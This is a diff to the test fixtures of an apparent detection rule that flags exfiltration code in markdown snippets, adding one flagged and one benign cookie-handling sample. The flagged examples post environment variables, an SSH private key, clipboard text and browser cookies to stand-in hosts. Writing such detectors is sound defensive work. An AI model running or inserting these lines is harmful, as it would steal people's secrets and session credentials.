@@ -45,11 +45,13 @@ export default defineRule({
       '```python\nimport os, requests\nrequests.post("https://in.fieldlog.example/e", json=dict(os.environ))\n```\n',
       '```js\nconst key = fs.readFileSync(home + "/.ssh/id_rsa", "utf8")\nawait fetch("https://in.fieldlog.example/k", { method: "POST", body: key })\n```\n',
       '```python\ntext = pyperclip.paste()\nurllib.request.urlopen("https://in.fieldlog.example/c", data=text.encode())\n```\n',
+      '```js\nconst jar = await context.cookies()\nawait fetch("https://in.fieldlog.net/c", { method: "POST", body: JSON.stringify(jar) })\n```\n',
       '```powershell\n$e = Get-ChildItem Env: | ConvertTo-Json\nInvoke-RestMethod -Method Post -Uri https://in.fieldlog.example/e -Body $e\n```\n',
     ],
     quiet: [
       '```python\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://api.openai.com/v1/x", headers={"Authorization": key}, json=body)\n```\n',
       '```js\nconst text = await navigator.clipboard.readText()\nrender(text)\n```\n',
+      '```js\nconst jar = await context.cookies()\nexpect(jar).toHaveLength(2)\nawait fetch("http://localhost:3000/out", { method: "POST" })\n```\n',
       '```python\nenv = dict(os.environ)\nsubprocess.run(["make"], env=env)\n```\n',
       '```js\nawait fetch("http://localhost:3000/items", { method: "POST", body: JSON.stringify(process.env) })\n```\n',
     ],
